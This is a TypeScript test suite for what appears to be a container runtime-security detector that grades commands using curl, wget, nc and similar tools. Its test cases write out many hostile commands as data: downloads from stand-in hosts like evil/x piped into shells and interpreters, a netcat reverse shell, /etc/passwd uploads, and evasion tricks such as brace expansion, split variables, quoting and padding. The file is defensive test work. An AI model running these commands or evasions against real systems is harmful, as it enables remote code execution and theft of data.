        session("sh", "-c", "curl -s http://evil/x.py | python3 /dev/stdin"),
        "critical",
        "curl download is piped to an interpreter (python3)",
      ],
      [
        "session: curl | python3 -c exec(stdin)",
        session("sh", "-c", `curl -s http://evil/x.py | python3 -c "import sys; exec(sys.stdin.read())"`),
        "critical",
        "curl download is piped to an interpreter (python3)",
      ],
      [
        "session: curl | lua -e loading its input",
        session("sh", "-c", `curl -s http://evil/x.lua | lua -e 'load(io.read("a"))()'`),
        "critical",
        "curl download is piped to an interpreter (lua)",
      ],
      [
        "session: curl | perl",
        session("sh", "-c", "curl -s http://evil/x.pl | perl"),
        "critical",
        "curl download is piped to an interpreter (perl)",
      ],
      [
        "session: curl | node -",
        session("sh", "-c", "curl -s http://evil/x.js | node -"),
        "critical",
        "curl download is piped to an interpreter (node)",
      ],
      [
        "session: curl | sudo bash",
        session("sh", "-c", "curl -s http://evil/x | sudo -E bash"),
        "critical",
        "curl download is piped to a shell (bash)",
      ],
      [
        "session: a command written with braces instead of spaces",
        session("bash", "-c", "{curl,-s,http://evil/x}|{sh,}"),
        "critical",
        "curl download is piped to a shell (sh)",
      ],
      [
        "session: a privilege dropper in front (gosu, su-exec, runuser…)",
        session("sh", "-c", "gosu app curl -s http://evil/x | sh"),
        "critical",
        "curl download is piped to a shell (sh)",
      ],
      [
        "session: through Tor",
        session("sh", "-c", "torsocks wget -qO- http://evil.onion/x | bash"),
        "critical",
        "wget download is piped to a shell (bash)",
      ],
      [
        "session: the command held in variables",
        session("sh", "-c", "c=cu; d=rl; $c$d -s http://evil/x | sh"),
        "critical",
        "curl download is piped to a shell (sh)",
      ],
      [
        "session: a subshell piped to sh",
        session("sh", "-c", "(cd /tmp && curl -s http://evil/x) | sh"),
        "critical",
        "curl download is piped to a shell (sh)",
      ],
      [
        "session: a brace group piped to bash",
        session("sh", "-c", "{ echo set -e; curl -s http://evil/x; } | bash"),
        "critical",
        "curl download is piped to a shell (bash)",
      ],
      [
        "session: a polling loop piped to sh",
        session("bash", "-c", "while true; do wget -qO- http://evil/c2; sleep 30; done | sh"),
        "critical",
        "wget download is piped to a shell (sh)",
      ],
      [
        "session: through gunzip into busybox sh",
        session("sh", "-c", "wget -qO- http://evil/x.gz | gunzip | busybox sh"),
        "critical",
        "wget download is piped to a shell (sh)",
      ],
      [
        "session: argv with operator words",
        session("curl", "-s", "http://evil/x", "|", "sh"),
        "critical",
        "curl download is piped to a shell (sh)",
      ],
      [
        "session: nc into a shell",
        session("sh", "-c", "nc 203.0.113.9 4444 | /bin/sh | nc 203.0.113.9 4445"),
        "critical",
        "nc output is piped to a shell (sh)",
      ],
      [
        "session: DNS TXT into a shell",
        session("sh", "-c", "dig +short TXT stage.evil.example | sh"),
        "critical",
        "dig answer is piped to a shell (sh)",
      ],
      [
        "session: download then executed",
        session("sh", "-c", "wget -q http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"),
        "critical",
        "the file wget downloads (/tmp/a) is then executed",
      ],
      [
        "session: download into an unknown cwd, then executed",
        session("sh", "-c", "curl -so a http://x/a && sh a"),
        "critical",
        "the file curl downloads (a) is then executed",
      ],
      [
        'parent: sh -c "curl … | sh"',
        withAncestors(run("/usr/bin/curl", "-fsSL", "http://evil/x"), [
          { path: "/bin/sh", args: ["-c", "curl -fsSL http://evil/x | sh"] },
        ]),
        "critical",
        "curl download is piped to a shell (sh) in the parent's command line",
      ],
      [
        "parent: busybox sh through its symlink (Alpine), path /bin/busybox and name sh",
        withAncestors(processEvent({ name: "wget", path: "/bin/busybox", args: ["-qO-", "http://evil/x"] }), [
          { name: "sh", path: "/bin/busybox", args: ["-c", "wget -qO- http://evil/x | sh"] },
        ]),
        "critical",
        "wget download is piped to a shell (sh) in the parent's command line",
      ],
      [
        "parent: busybox sh through its symlink runs the downloaded file",
        withAncestors(
          processEvent({
            name: "wget",
            path: "/bin/busybox",
            args: ["-q", "-O", "/dev/shm/.k", "http://x/k"],
          }),
          [
            {
              name: "sh",
              path: "/bin/busybox",
              args: ["-c", "cd /dev/shm && wget -q -O .k http://x/k && ./.k"],
            },
          ],
        ),
        "critical",
        "the file wget downloads (/dev/shm/.k) is then executed",
      ],
      [
        'grandparent: bash -c "bash <(wget …)"',
        withAncestors(run("/usr/bin/wget", "-qO-", "http://evil/x"), [
          { path: "/bin/bash", args: ["/dev/fd/63"] },
          { path: "/bin/bash", args: ["-c", "bash <(wget -qO- http://evil/x)"] },
        ]),
        "critical",
        "wget download is executed by bash through process substitution in the grandparent's command line",
      ],
      [
        "parent: wget -O /tmp/a then run",
        processEvent(
          { name: "wget", path: "/usr/bin/wget", cwd: "/srv", args: ["-qO", "/tmp/a", "http://x/a"] },
          {
            ancestors: [
              { path: "/bin/sh", args: ["-c", "wget -qO /tmp/a http://x/a && chmod +x /tmp/a && /tmp/a"] },
            ],
          },
        ),
        "critical",
        "the file wget downloads (/tmp/a) is then executed",
      ],
    ]);

    it.each([
      ["python3 -m json.tool", "curl -s https://api.example.com/x | python3 -m json.tool"],
      [
        "python3 -c reading JSON",
        `curl -s https://x/a | python3 -c "import sys,json; print(json.load(sys.stdin))"`,
      ],
      ["python3 with a script", "curl -s https://x/a | python3 /app/ingest.py"],
      ["perl -ne", "curl -s https://x/a | perl -ne 'print if /up/'"],
      ["ruby -e", "curl -s https://x/a | ruby -e 'puts STDIN.read.size'"],
      ["node -e", "curl -s https://x/a | node -e 'process.stdin.pipe(process.stdout)'"],
      ["php -r", "curl -s https://x/a | php -r 'echo strlen(stream_get_contents(STDIN));'"],
    ])("does not count an interpreter that reads the download as data (%s)", (_label, script) => {
      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
    });

    it("does not count a download that only becomes an argument", () => {
      expect(findingOf(session("sh", "-c", "echo $(curl -s http://x/ip)")).severity).toBe("low");
    });

    it("does not count a download written to a file before the pipe", () => {
      expect(findingOf(session("sh", "-c", "curl -s http://x/a > /srv/a | sh")).severity).toBe("low");
    });
  });

  describe("exec sessions", () => {
    it("reports the utility's own segment as the process", () => {
      // Act
      const finding = findingOf(session("sh", "-c", "cd /tmp; wget http://x/a -O- | sh"));
      // Assess
      expect(finding.utility).toEqual({ name: "wget", category: "download" });
      expect(finding.process.name).toBe("wget");
      expect(finding.process.args).toEqual(["http://x/a", "-O-"]);
      expect(finding.process.path).toBeUndefined();
      expect(finding.process.cwd).toBe("/tmp");
    });

    it("keeps the path argv0 had and the busybox name", () => {
      const finding = findingOf(session("/bin/sh", "-c", "/bin/busybox wget -O /tmp/x http://x/y"));
      expect(finding.process).toMatchObject({
        name: "busybox",
        path: "/bin/busybox",
        args: ["wget", "-O", "/tmp/x", "http://x/y"],
      });
      expect(finding.utility.name).toBe("wget");
    });

    it("takes the event's process when the session runs the utility directly", () => {
      const event = session("nc", "-e", "/bin/sh", "1.2.3.4", "4444");
      const finding = findingOf(event);
      expect(finding.severity).toBe("critical");
      expect(finding.process).toBe(event.process);
    });

    it("picks the most severe utility and mentions the others", () => {
      const finding = findingOf(
        session("sh", "-c", "dig example.com; nc -e /bin/sh 203.0.113.9 4444; curl -s https://x"),
      );
      expect(finding.utility.name).toBe("nc");
      expect(finding.reasons).toEqual([
        "nc executes a command or shell (-e /bin/sh)",
        "nc (network relay tool) ran in a container through an exec session",
        "the command line also runs dig, curl",
      ]);
    });

    it("sees through quoting tricks in the payload", () => {
      expect(findingOf(session("sh", "-c", "c''url -s http://evil/x | s\\h")).severity).toBe("critical");
    });

    it("counts a writable place of a payload shell as the parent's", () => {
      expect(findingOf(session("/tmp/.x/sh", "-c", "curl https://x")).reasons[0]).toBe(
        "parent /tmp/.x/sh runs from a writable location (/tmp)",
      );
    });
  });
});

describe("evaluate: not a signal", () => {
  it.each([
    [
      "curl to localhost",
      run("/usr/bin/curl", "-fsS", "http://localhost:8080/healthz"),
      "every target is loopback or motd.ubuntu.com (localhost)",
    ],
    [
      "curl to 127.0.0.1 with a port",
      run("/usr/bin/curl", "http://127.0.0.1:9090/metrics"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
    [
      "curl to the rest of 127/8",
      run("/usr/bin/curl", "127.0.0.53:53"),
      "every target is loopback or motd.ubuntu.com (127.0.0.53)",
    ],
    [
      "curl to [::1]",
      run("/usr/bin/curl", "http://[::1]:8080/"),
      "every target is loopback or motd.ubuntu.com (::1)",
    ],
    [
      "curl to 0:0:0:0:0:0:0:1",
      run("/usr/bin/curl", "http://[0:0:0:0:0:0:0:1]/"),
      "every target is loopback or motd.ubuntu.com (0:0:0:0:0:0:0:1)",
    ],
    [
      "curl through a loopback proxy",
      run("/usr/bin/curl", "-x", "http://127.0.0.1:3128", "http://localhost/"),
      "every target is loopback or motd.ubuntu.com (localhost)",
    ],
    [
      "curl to motd.ubuntu.com",
      run("/usr/bin/curl", "-Ssf", "https://motd.ubuntu.com"),
      "every target is loopback or motd.ubuntu.com (motd.ubuntu.com)",
    ],
    [
      "wget to localhost",
      run("/usr/bin/wget", "-qO-", "http://localhost/ready"),
      "every target is loopback or motd.ubuntu.com (localhost)",
    ],
    [
      "nc port check on loopback",
      run("/bin/nc", "-z", "127.0.0.1", "5432"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
    [
      "dig of localhost at a loopback server",
      run("/usr/bin/dig", "@127.0.0.1", "localhost"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1, localhost)",
    ],
    [
      "socat forwarding to loopback",
      run("/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
    [
      "nmap of loopback",
      run("/usr/bin/nmap", "-p", "80", "127.0.0.1"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
    ["curl --version", run("/usr/bin/curl", "--version"), "only asks for its version or help"],
    ["wget -V", run("/usr/bin/wget", "-V"), "only asks for its version or help"],
    ["nc -h", run("/bin/nc", "-h"), "only asks for its version or help"],
    ["busybox wget --help", run("/bin/busybox", "wget", "--help"), "only asks for its version or help"],
    [
      "a loopback check from a /tmp parent (medium is exempted)",
      withAncestors(run("/usr/bin/curl", "http://localhost/"), [{ path: "/tmp/x" }]),
      "every target is loopback or motd.ubuntu.com (localhost)",
    ],
    [
      "a session health check",
      session("sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz || exit 1"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
    [
      "a loopback answer pretty-printed by python3 -m json.tool (data, not code)",
      session("sh", "-c", "curl -s localhost:9200/_cat/indices?format=json | python3 -m json.tool"),
      "every target is loopback or motd.ubuntu.com (localhost)",
    ],
    [
      "a loopback answer filtered by perl -ne",
      session("sh", "-c", "curl -s http://127.0.0.1:9090/metrics | perl -ne 'print if /^up/'"),
      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
    ],
  ])("%s is benign", (_label, event, why) => {
    const verdict = evaluate(event);
    expect(verdict.kind).toBe("benign");
    if (verdict.kind === "benign") expect(verdict.why).toBe(why);
  });

  it.each([
    ["nc -e to loopback", run("/bin/nc", "-e", "/bin/sh", "127.0.0.1", "4444"), "critical"],
    ["curl from localhost into /tmp", run("/usr/bin/curl", "-o", "/tmp/x", "http://localhost/x"), "high"],
    ["curl uploading to localhost", run("/usr/bin/curl", "-T", "/etc/passwd", "http://localhost/"), "high"],
    ["curl from localhost piped to sh", session("sh", "-c", "curl -s http://127.0.0.1/x | sh"), "critical"],
    [
      "--version next to a credential endpoint",
      run("/usr/bin/curl", "--version", "http://169.254.169.254/"),
      "high",
    ],
  ])("%s: a high or critical indicator overrides the exemptions", (_label, event, severity) => {
    expect(findingOf(event).severity).toBe(severity);
  });

  it.each([
    ["curl with no target", run("/usr/bin/curl")],
    [
      "curl to a mix of loopback and remote",
      run("/usr/bin/curl", "http://localhost/", "https://example.com/"),
    ],
    [
      "curl to loopback through a remote proxy",
      run("/usr/bin/curl", "-x", "http://proxy.corp:3128", "http://localhost/"),
    ],
    [
      "curl to loopback rerouted by --connect-to",
      run("/usr/bin/curl", "--connect-to", "localhost:80:203.0.113.9:80", "http://localhost/"),
    ],
    ["curl to a look-alike of localhost", run("/usr/bin/curl", "http://localhost.evil.example/")],
    ["whois of a loopback address (asks a remote server)", run("/usr/bin/whois", "127.0.0.1")],
    ["a sniffer (no target)", run("/usr/sbin/tcpdump", "-i", "lo")],
    ["a listener (no target)", run("/bin/nc", "-l", "4444")],
    ["a file URL", run("/usr/bin/curl", "file:///etc/passwd")],
    [
      "curl to the Docker API socket (localhost is only the URL's name)",
      run("/usr/bin/curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"),
    ],
    ["version plus a real target", run("/usr/bin/curl", "-V", "https://example.com/")],
  ])("%s is not exempt", (_label, event) => {
    expect(evaluate(event).kind).toBe("finding");
  });
});

describe("evaluate: padding cannot push an indicator out of sight", () => {
  table([
    [
      "nc with thousands of -v before -e",
      run("/bin/nc", ...new Array<string>(2000).fill("-v"), "-e", "/bin/sh", "203.0.113.9", "4444"),
      "critical",
      "nc executes a command or shell (-e /bin/sh)",
    ],
    [
      "curl with thousands of distinct headers before -o /tmp/x",
      run(
        "/usr/bin/curl",
        ...Array.from({ length: 2000 }, (_, i) => `-HX-${i}: y`),
        "-o",
        "/tmp/x",
        "http://x/a",
      ),
      "high",
      "curl downloads into a writable location (/tmp): /tmp/x",
    ],
    [
      "session: a thousand commands before curl | sh",
      session("sh", "-c", `${"true;".repeat(1000)} curl -s http://evil/x | sh`),
      "critical",
      "curl download is piped to a shell (sh)",
    ],
    [
      "session: a thousand pipelines before curl | sh",
      session("sh", "-c", `${"a | b;".repeat(1000)} curl -s http://evil/x | sh`),
      "critical",
      "curl download is piped to a shell (sh)",
    ],
    [
      "session: a 100 KB comment before curl | sh",
      session("sh", "-c", `#${"A".repeat(100_000)}\ncurl -s http://evil/x | sh`),
      "critical",
      "curl download is piped to a shell (sh)",
    ],
    [
      "session: a hundred filters between curl and sh",
      session("sh", "-c", `curl -s http://evil/x ${"| cat ".repeat(100)}| sh`),
      "critical",
      "curl download is piped to a shell (sh)",
    ],
    [
      "parent: a thousand commands before curl | sh",
      withAncestors(run("/usr/bin/curl", "-s", "http://evil/x"), [
        { path: "/bin/sh", args: ["-c", `${"true;".repeat(1000)} curl -s http://evil/x | sh`] },
      ]),
      "critical",
      "curl download is piped to a shell (sh) in the parent's command line",
    ],
  ]);
});

describe("evaluate: robustness", () => {
  const names = [...UTILITIES.keys(), "busybox", "sh", "bash", "python3"];

  it("never throws for arbitrary arguments, ancestors and sessions", () => {
    const argument = fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.constantFrom(
        "-e",
        "-c",
        "-o",
        "-O",
        "-T",
        "-d",
        "-F",
        "-x",
        "|",
        ";",
        "&&",
        "$(",
        "`",
        "<(",
        "@-",
        "--",
        "-",
      ),
      fc.stringMatching(/^[a-z0-9:/.@[\]$()`'"|;&<> -]{0,60}$/),
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.array(argument, { maxLength: 12 }),
        fc.array(
          fc.record({
            path: fc.option(fc.string({ maxLength: 30 }), { nil: undefined }),
            args: fc.option(fc.array(argument, { maxLength: 5 }), { nil: undefined }),
          }),
          { maxLength: 4 },
        ),
        fc.boolean(),
        fc.option(fc.string({ maxLength: 20 }), { nil: undefined }),
        (name, args, ancestors, viaExecSession, cwd) => {
          // Prepare
          const event = processEvent(
            { name, path: `/usr/bin/${name}`, args, ...(cwd !== undefined ? { cwd } : {}) },
            {
              ancestors: ancestors.map((a) => ({
                ...(a.path ? { path: a.path } : {}),
                ...(a.args ? { args: a.args } : {}),
              })),
              viaExecSession,
            },
          );
          // Act
          const verdict = evaluate(event);
          // Assess: a finding's severity is the highest, and its last own reason is the low one.
          expect(["none", "benign", "finding"]).toContain(verdict.kind);
          if (verdict.kind === "finding") {
            expect(verdict.finding.reasons.length).toBeGreaterThan(0);
            expect(verdict.finding.reasons.some((r) => r.includes("ran in a container"))).toBe(true);
          }
        },
      ),
      { numRuns: 3000 },
    );
  });

  it("never throws for malformed events", () => {
    const junk = fc.oneof(
      fc.constant(undefined),
      fc.constant(null),
      fc.integer(),
      fc.string(),
      fc.array(fc.anything(), { maxLength: 3 }),
      fc.object(),
    );
    fc.assert(
      fc.property(junk, junk, junk, junk, (name, path, args, ancestors) => {
        const event = {
          ...processEvent({}),
          process: { name, path, args },
          ancestors,
        } as unknown as ExecEvent;
        evaluate(event);
        evaluate({ ...event, viaExecSession: true });
      }),
      { numRuns: 1000 },
    );
  });

  it("stays fast on a megabyte of arguments", () => {
    // Prepare: 1 MiB of arguments, the shape of a hostile or runaway command line.
    const big = "A".repeat(1024);
    const args = Array.from({ length: 1024 }, (_, i) => (i % 2 === 0 ? `http://x/${big}` : `-d@${big}`));
    const payload = `curl ${"http://x/a | ".repeat(60_000)}sh`;
    // Act
    const verdicts = [
      evaluate(run("/usr/bin/curl", ...args)),
      evaluate(session("sh", "-c", payload)),
      evaluate(
        withAncestors(
          run("/usr/bin/curl", "x"),
          Array.from({ length: 500 }, () => ({ path: "/bin/sh", args: ["-c", payload] })),
        ),
      ),
    ];
    // Assess
    expect(verdicts.every((v) => v.kind === "finding")).toBe(true);
  });
});

describe("analysis failures fail closed", () => {
  it("reports a catalogued utility whose command line cannot be read, at medium", () => {
    const event = structuredClone(run("/tmp/curl", "-s", "http://203.0.113.7/x"));
    Object.defineProperty(event.process, "args", {
      get() {
        throw new Error("unreadable arguments");
      },
    });
    const verdict = evaluate(event);
    expect(verdict.kind).toBe("finding");
    if (verdict.kind !== "finding") return;
    expect(verdict.finding.severity).toBe("medium");
    expect(verdict.finding.reasons[0]).toMatch(/could not be analysed \(unreadable arguments\)/);
  });

  it("raises a finding to medium when its ancestors cannot be read", () => {
    const event = structuredClone(run("/usr/bin/curl", "-s", "http://203.0.113.7/x"));
    Object.defineProperty(event, "ancestors", {
      get() {
        throw new Error("unreadable ancestors");
      },
    });
    const verdict = evaluate(event);
    expect(verdict.kind).toBe("finding");
    if (verdict.kind !== "finding") return;
    expect(verdict.finding.severity).toBe("medium");
    expect(verdict.finding.reasons[0]).toMatch(/ancestors could not be analysed/);
  });
});

describe("processes seen inside an exec session", () => {
  it("reads a busybox applet of a session process (Datadog user_session) as the process it is", () => {
    // Prepare: wget -> /bin/busybox inside a kubectl exec shell.
    const event = processEvent(
      { name: "wget", path: "/bin/busybox", args: ["-q", "-O", "/dev/shm/.k", "http://203.0.113.45/k"] },
      { viaExecSession: true, ancestors: [{ name: "sh", path: "/bin/busybox", args: ["-i"] }] },
    );

    // Act
    const finding = findingOf(event);

    // Assess
    expect(finding.utility.name).toBe("wget");
    expect(finding.severity).toBe("high");
    expect(finding.reasons.at(-1)).toMatch(/through an exec session/);
  });

  it("keeps reading a requested command line (no ancestors) as a session command only", () => {
    expect(evaluate(session("/bin/busybox", "-q", "http://203.0.113.45/k")).kind).toBe("none");
  });
});
